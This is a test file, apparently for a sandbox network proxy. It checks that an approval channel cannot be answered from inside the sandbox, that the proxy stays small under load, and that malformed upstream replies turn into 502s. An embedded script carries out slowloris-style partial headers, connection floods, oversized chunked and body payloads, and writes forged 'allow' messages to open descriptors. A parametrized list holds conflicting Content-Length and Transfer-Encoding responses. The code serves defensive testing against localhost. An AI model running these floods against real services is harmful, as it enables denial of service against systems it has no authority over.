    line = question_of(cell)
    text = json.dumps(json.loads(line)["command"], ensure_ascii=False)
    assert len(line) < 8192 and not any(c in text for c in "\u202e\u2066\x1b\u200b") and "\\n" not in text, text


@pytest.mark.threat("T26")
def test_a_question_names_the_command(cell):
    assert "python3" in json.loads(question_of(cell))["command"]["argv0"]


@pytest.mark.threat("T26")
def test_a_question_cannot_be_answered_from_inside(cell, server):
    """The channel is outside: no descriptor of it is inside, and typing to the terminal answers nothing."""
    asker = Asker(lambda q: b"")
    fd = asker.theirs.fileno()
    script = ("import inside, os, threading\n"
              "def shout():\n    for fd in range(0, 64):\n        for i in range(3):\n"
              "            try: os.write(fd, b'{\"id\":\"%d\",\"allow\":true}\\n' % i)\n            except OSError: pass\n"
              "threading.Timer(0.3, shout).start()\n"
              f"print('code', inside.connect('localhost:{server.port}', timeout=1.5)[0])")
    done = cell.python(script, options=["--ask-fd", str(fd)], pass_fds=[fd])
    asker.close()
    assert "code 0" in done.out or "code 403" in done.out, done
    assert server.connections == 0


@pytest.mark.threat("T26")
def test_a_closed_channel_denies(cell, server):
    asker = Asker(lambda q: b"")
    fd = asker.theirs.fileno()
    asker.ours.shutdown(socket.SHUT_RDWR)
    done = cell.python(f"import inside; print(inside.connect('localhost:{server.port}', )[0])",
                       options=["--ask-fd", str(fd)], pass_fds=[fd])
    asker.close()
    assert done.out.strip() == "403" and server.connections == 0, done


# T28

def proxy_memory(front):
    """Resident KiB of our own processes outside."""
    total = 0
    for pid, text in outer.descendants(front).items():
        if "postern" in text:
            for line in outer.read(f"/proc/{pid}/status").decode().splitlines():
                if line.startswith("VmRSS:"):
                    total += int(line.split()[1])
    return total


@pytest.mark.threat("T28")
@pytest.mark.parametrize("attack", ["slow head", "endless head", "many connections", "huge chunk extension", "no end of line",
                                    "slow socks", "half requests", "body without reader"])
def test_the_proxy_serves_on_and_stays_small(cell, server, attack):
    """Bounded: a few hundred connections or a few MiB. Afterwards an ordinary request is served, and our
    memory has a bound that does not depend on what was sent."""
    shell = cell.shell(settings=cell.settings(allowed=["localhost"]))
    program = cell.write("outside/attack.py", f"import sys; sys.path.insert(0, {str(os.path.dirname(__file__))!r})\n" + SLOW)
    done = shell(f"/usr/bin/python3 -I -S '{program}' '{attack}' {server.port}")
    assert done.code == 0 and done.out.strip().endswith("200"), done
    assert proxy_memory(shell.child.pid) < 160 << 10
    shell.close()


SLOW = """
import inside, socket, resource
attack, port = sys.argv[1], int(sys.argv[2])
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
kept = []
def send(peer, data):
    try:
        peer.sendall(data); return True
    except OSError: return False
head = f'POST http://localhost:{port}/ HTTP/1.1\\r\\nHost: localhost\\r\\n'.encode() + inside.authorization()
try:
    if attack == 'slow head':
        for i in range(300):
            kept.append(inside.dial()); send(kept[-1], head[:10 + i % 40])
    elif attack == 'endless head':
        peer = inside.dial(timeout=3); send(peer, head)
        for i in range(400):
            if not send(peer, b'X-%d: ' % i + b'y' * 8000 + b'\\r\\n'): break
        print(inside.status(inside.answer(peer)))
    elif attack == 'many connections':
        for i in range(1400):
            try: kept.append(inside.dial(timeout=2))
            except OSError: break
    elif attack == 'huge chunk extension':
        peer = inside.dial(timeout=3); send(peer, head + b'Transfer-Encoding: chunked\\r\\n\\r\\n1;')
        for i in range(400):
            if not send(peer, b'z' * 8192): break
    elif attack == 'no end of line':
        peer = inside.dial(timeout=3)
        for i in range(400):
            if not send(peer, b'GET ' + b'a' * 8192): break
    elif attack == 'slow socks':
        for i in range(300):
            kept.append(inside.dial(inside.SOCKS_PORT)); send(kept[-1], b'\\5\\1'[:1 + i % 2])
    elif attack == 'half requests':
        for i in range(300):
            kept.append(inside.dial()); send(kept[-1], head + b'Content-Length: 100\\r\\n\\r\\nhalf')
    else:
        for i in range(20):
            peer = inside.dial(timeout=0.3); kept.append(peer)
            send(peer, head + b'Content-Length: 100000000\\r\\n\\r\\n')
            for k in range(64):
                if not send(peer, b'b' * 65536): break
except OSError as e: print('attack ended', e)
if attack == 'many connections':
    for peer in kept: peer.close()
    import time
    for turn in range(100):
        if inside.status(inside.exchange(f'GET http://localhost:{port}/ HTTP/1.1\\r\\nHost: localhost\\r\\n@AUTH@Connection: close\\r\\n\\r\\n'.encode(), finish=False)) == 200: break
        time.sleep(0.05)
print(inside.status(inside.exchange(f'GET http://localhost:{port}/ HTTP/1.1\\r\\nHost: localhost\\r\\n@AUTH@Connection: close\\r\\n\\r\\n'.encode(), finish=False)))
"""


@pytest.mark.threat("T28")
@pytest.mark.parametrize("answer", [
    b"HTTP/1.1 200 OK\r\n" + b"X: " + b"y" * 200000 + b"\r\n\r\n", b"garbage\r\n\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n", b"HTTP/1.1 999999 X\r\n\r\n", b"\0" * 100,
    b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", b"HTTP/1.1 100 Continue\r\n\r\n" * 500,
])
def test_a_hostile_server_gives_a_502_or_an_end(cell, answer):
    """An upstream head that cannot be relayed becomes 502, and the proxy lives on."""
    with hosts.Server(answer=answer) as bad, hosts.Server() as good:
        script = """
import inside
for port, timeout in zip(sys.argv[1:], (1, inside.PATIENCE)):  # the bad one may never end
    print(inside.status(inside.exchange(f'GET http://localhost:{port}/ HTTP/1.1\\r\\nHost: localhost\\r\\n@AUTH@Connection: close\\r\\n\\r\\n'.encode(), finish=False, timeout=timeout)))
"""
        done = cell.python(script, bad.port, good.port, settings=cell.settings(allowed=["localhost"]))
        first, second = done.ok().split()
        assert first in ("502", "0", "100", "200") and second == "200", done
